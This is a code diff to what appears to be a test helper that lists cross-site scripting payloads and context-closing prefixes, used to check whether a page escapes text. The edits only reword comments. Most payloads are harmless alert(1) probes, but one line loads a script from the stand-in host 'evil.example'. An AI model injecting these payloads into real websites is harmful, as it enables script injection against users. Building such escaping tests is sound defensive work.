@@ -1,4 +1,4 @@
-/** Ways to make a browser run `alert(1)` if a page handles text carelessly. */
+/** Texts that make a browser run `alert(1)` if a page doesn't escape them. */
 const vectors = [
   '<script>alert(1)</script>',
   '<script src=//evil.example></script>',
@@ -41,7 +41,7 @@ const vectors = [
   '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
   '＜script＞alert(1)＜/script＞',
   '{{constructor.constructor("alert(1)")()}}',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: a payload, no template.
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a payload, not a template.
   '${alert(1)}',
   '#{alert(1)}',
   '{alert(1)}',
@@ -53,7 +53,7 @@ const vectors = [
   '\u202e<script>alert(1)</script>',
 ] as const
 
-/** Prefixes that leave the context of a text: an element, an attribute, a script or a comment. */
+/** Prefixes that close the element, attribute, script or comment around a text. */
 const exits = ['', '">', "'>", '</script>', '"});alert(1)//', '--></title></textarea></style>'] as const
 
 /** Three hundred texts of at most a hundred characters. */
